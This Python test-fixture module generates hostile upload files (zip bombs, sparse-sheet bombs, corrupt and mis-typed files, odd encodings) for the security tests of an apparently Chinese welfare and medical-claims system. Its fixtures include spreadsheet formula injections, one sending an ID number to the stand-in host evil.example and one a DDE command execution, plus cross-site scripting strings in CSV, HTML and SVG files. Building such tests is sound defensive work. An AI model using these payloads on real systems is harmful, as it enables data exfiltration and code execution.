"""The hostile files of tests/samples/hostile/ (small, committed) and the big ones (made in the test).

    python -m tests.security.hostile_files      # rewrites the small files

Each file is something a department, a hospital, a bank or an attacker could send through an
upload door; tests/security/test_hostile_inputs.py sends every one through every door.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent.parent / "samples" / "hostile"

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WB_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    "</Relationships>"
)
SHEET_HEAD = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def _cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def workbook(sheet_xml_parts, *, compresslevel: int = 6) -> bytes:
    """A minimal xlsx whose one sheet is the concatenation of ``sheet_xml_parts`` (streamed)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        zf.writestr("_rels/.rels", RELS)
        zf.writestr("xl/workbook.xml", WORKBOOK)
        zf.writestr("xl/_rels/workbook.xml.rels", WB_RELS)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as out:
            for part in sheet_xml_parts:
                out.write(part.encode() if isinstance(part, str) else part)
    return buf.getvalue()


def sparse_bomb() -> bytes:
    """1.7 KB: a sheet declaring A1:XFD1048576 with one cell in each corner (issue 9, finding 4)."""
    return workbook([
        SHEET_HEAD, '<dimension ref="A1:XFD1048576"/><sheetData>',
        '<row r="1">', _cell("A1", "身份证号码"), _cell("B1", "姓名"), "</row>",
        '<row r="1048576">', _cell("XFD1048576", "x"), "</row>",
        "</sheetData></worksheet>",
    ])


def dense_rows(n: int) -> bytes:
    """A dense sheet of ``n`` data rows (no dimension): made in the test, never committed."""
    def parts():
        yield SHEET_HEAD + "<sheetData>"
        yield '<row r="1">' + _cell("A1", "身份证号码") + _cell("B1", "姓名") + "</row>"
        batch = []
        for r in range(2, n + 2):
            batch.append(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>')
            if len(batch) == 20000:
                yield "".join(batch)
                batch = []
        yield "".join(batch)
        yield "</sheetData></worksheet>"

    return workbook(parts(), compresslevel=1)


def wide_row(columns: int) -> bytes:
    from yfbz.core.spreadsheets import MAX_COLUMNS  # noqa: F401 - the limit this exceeds

    def col(n):
        s = ""
        while n:
            n, r = divmod(n - 1, 26)
            s = chr(65 + r) + s
        return s

    cells = "".join(_cell(f"{col(i)}1", f"列{i}") for i in range(1, columns + 1))
    return workbook([SHEET_HEAD, f'<sheetData><row r="1">{cells}</row></sheetData></worksheet>'])


def unzips_to(size: int) -> bytes:
    """A zip whose one sheet unpacks to ``size`` bytes of padding (a zip bomb when size is large)."""
    def parts():
        yield SHEET_HEAD + "<sheetData></sheetData>"
        chunk = b" " * (1 << 20)
        left = size
        while left > 0:
            yield chunk[: min(left, len(chunk))]
            left -= len(chunk)
        yield "</worksheet>"

    return workbook(parts(), compresslevel=9)


def _roster_xlsx(rows) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for r in rows:
        ws.append(list(r))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


ROSTER_HEAD = ["身份证号码", "姓名", "救助类别", "所属镇街", "认定日期", "联系电话"]


def small_files() -> dict[str, bytes]:
    import csv

    def csv_bytes(rows, encoding="utf-8"):
        out = io.StringIO()
        csv.writer(out).writerows(rows)
        return out.getvalue().encode(encoding)

    formula_rows = [ROSTER_HEAD, ["500112196005011003", '=HYPERLINK("http://evil.example/?d="&A2,"点击")', "低保", "双龙湖", "", ""],
                    ["500112196005011011", "=cmd|' /C calc'!A0", "低保", "双龙湖", "", "+1-1"]]
    return {
        "empty.xlsx": b"",
        "blank.csv": b"\r\n  \r\n",
        "not_a_spreadsheet.xlsx": b"This is a plain text note, saved with the wrong name.\n",
        "picture_named.xlsx": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
        "corrupt.xlsx": _roster_xlsx([ROSTER_HEAD])[:700],
        "old_format.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1024,
        "sparse_bomb.xlsx": sparse_bomb(),
        "formulas.xlsx": _roster_xlsx(formula_rows),
        "formulas.csv": csv_bytes(formula_rows),
        "html_names.csv": csv_bytes([ROSTER_HEAD, ["500112196005011003", "<script>alert(1)</script>", "低保", "双龙湖", "", ""],
                                     ["500112196005011011", '<img src=x onerror="alert(2)">', "低保", "<b>双龙湖</b>", "", ""]]),
        "nul_bytes.csv": csv_bytes([ROSTER_HEAD]) + b"500112196005011003,\x00\x00\x00,\xe4\xbd\x8e\xe4\xbf\x9d,x,,\n",
        "gbk.csv": csv_bytes([ROSTER_HEAD, ["500112196005011003", "张三", "低保", "双龙湖", "2025-01-01", ""]], "gbk"),
        "utf16.csv": csv_bytes([ROSTER_HEAD, ["500112196005011003", "张三", "低保", "双龙湖", "", ""]], "utf-16"),
        "absurd_amounts.csv": csv_bytes([
            ["结算编号", "身份证号码", "姓名", "就诊类型", "结算日期", "医疗总费用", "政策范围内费用", "基本医保支付", "大病保险支付", "医疗救助垫付"],
            ["S1", "500112196005011003", "张三", "住院", "2025-03-02", "1E+30", "1E+30", "0", "0", "9999999999999999"],
            ["S2", "500112196005011011", "李四", "住院", "9999-99-99", "-5", "NaN", "inf", "0", "0"],
        ]),
        "long_name.csv": csv_bytes([ROSTER_HEAD, ["500112196005011003", "张" * 80, "低保", "双龙湖", "1899-12-31", ""]]),
        "page.html": b"<!doctype html><html><body><script>fetch('/claims/')</script></body></html>",
        "image.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    }


def write_small_files() -> None:
    HERE.mkdir(parents=True, exist_ok=True)
    for name, data in small_files().items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    write_small_files()
    print(f"wrote {len(small_files())} files to {HERE}")
